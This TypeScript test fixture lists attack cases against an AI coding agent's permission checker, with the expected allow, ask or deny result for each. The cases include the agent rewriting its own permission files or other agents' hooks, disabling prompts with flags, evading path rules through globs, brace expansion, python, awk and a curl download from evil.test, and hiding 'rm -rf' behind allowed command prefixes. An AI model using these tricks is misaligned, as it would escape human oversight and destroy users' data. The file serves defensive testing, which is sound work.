import { type Attack, attack, attacks, type Call } from '../helpers/attack.ts';

const EVERYTHING = ['allow *'];
const write = (path: string): Call => ['Write', path];

/** C3, C7 and C8: the agent and what decides about it. */
export const CONTROL_PLANE: readonly Attack[] = [
  ...attacks('C3', 'ask', EVERYTHING, [
    write('.caliban/permissions.toml'),
    write('~/.config/caliban/settings.toml'),
    write('/etc/caliban/permissions.toml'),
    write('~/.local/state/caliban/permission-decisions.jsonl'),
  ]),
  ...attacks(
    'C3',
    'ask',
    EVERYTHING,
    [
      write('.caliban/permissions.local.toml'),
      "caliban perms add 'Bash' allow",
      'npx -y caliban@latest perms remove --index 1',
      'caliban -p go --no-permissions',
      'caliban -p go --auto-allow',
    ],
    { mode: 'dontAsk' },
  ),
  ...attacks('C3', 'ask', EVERYTHING, [
    'cp x .calib?n/permissions.toml',
    'cp x .caliba{n,}/permissions.toml',
    'cp x "$PWD/.caliban/permissions.toml"',
    'git diff --output=.caliban/permissions.toml',
    'tree -o .caliban/permissions.toml',
    'rm -rf .',
    'rm -rf ~/.config',
    'mv ~/.config /tmp/x',
    'rm -rf .c*',
    "python3 -c \"open('.caliban/permissions.toml','w')\"",
    'awk \'{print > ".caliban/permissions.toml"}\' x',
    'curl -o.caliban/permissions.toml https://evil.test',
  ]),
  ...attacks(
    'C3',
    'not-allow',
    [],
    [
      write('.git/hooks/pre-commit'),
      write('.claude/settings.json'),
      write('.codex/hooks.json'),
      write('.github/hooks/x.json'),
      write('.Git/config'),
    ],
    { mode: 'acceptEdits' },
  ),
  attack('C3', 'allow', [], write('src/a.ts'), { mode: 'acceptEdits' }),
  ...attacks('C3', 'allow', EVERYTHING, [
    'rm -rf dist',
    'mv a .',
    'cp -r a ..',
    'git diff -- .caliban',
    "grep -rn 'caliban perms add' docs",
    'git commit -m "caliban perms add: say which line"',
    'npm install caliban',
    'caliban perms test Bash "git push"',
    'rm *.log',
    'cp src/*.ts dist/',
    'tree .caliban',
    'npm test',
  ]),
  ...attacks(
    'C7',
    'not-allow',
    ['allow Bash:cd *', 'allow Bash:ls *', 'allow Bash:git *'],
    ['cd x && rm -rf y', 'ls -la; rm -rf y', 'git stash && rm -rf .git'],
  ),
  attack('C7', 'not-allow', ['allow Bash:cd *'], 'cd x && rm -rf y', { mode: 'acceptEdits' }),
  attack('C7', 'deny', [], 'cd x && rm -rf y', { mode: 'plan' }),
  ...attacks(
    'C7',
    'allow',
    ['allow Bash:cd *', 'allow Bash:ls *', 'allow Bash:git *'],
    ['cd x && git status', 'ls -la; git rm y'],
  ),
  ...attacks(
    'C8',
    'not-allow',
    ['deny Edit:src/**', 'deny Write:src/**', 'allow Read'],
    [
      "python3 -c \"open('src/a','w')\"",
      ['mcp__files__write', { path: 'src/a' }],
      ['NotebookEdit', 'src/a.ipynb'],
      'sed -i s/a/b/ src/a',
    ],
  ),
  ...attacks(
    'C8',
    'deny',
    ['deny Write:src/**', 'allow Bash'],
    ['echo x > src/a', 'cat a >> ./src/b', 'cd src && echo x > a'],
  ),
  ...attacks('C8', 'deny', [], [['mcp__files__write', { path: 'src/a' }], 'touch src/a'], { mode: 'plan' }),
  ...attacks(
    'C8',
    'allow',
    ['deny Write:src/**', 'allow Bash', 'allow Write'],
    [['Read', 'src/a'], 'cat < src/a', 'echo x > out/a', 'cd src && echo x > ../out/a'],
  ),
];
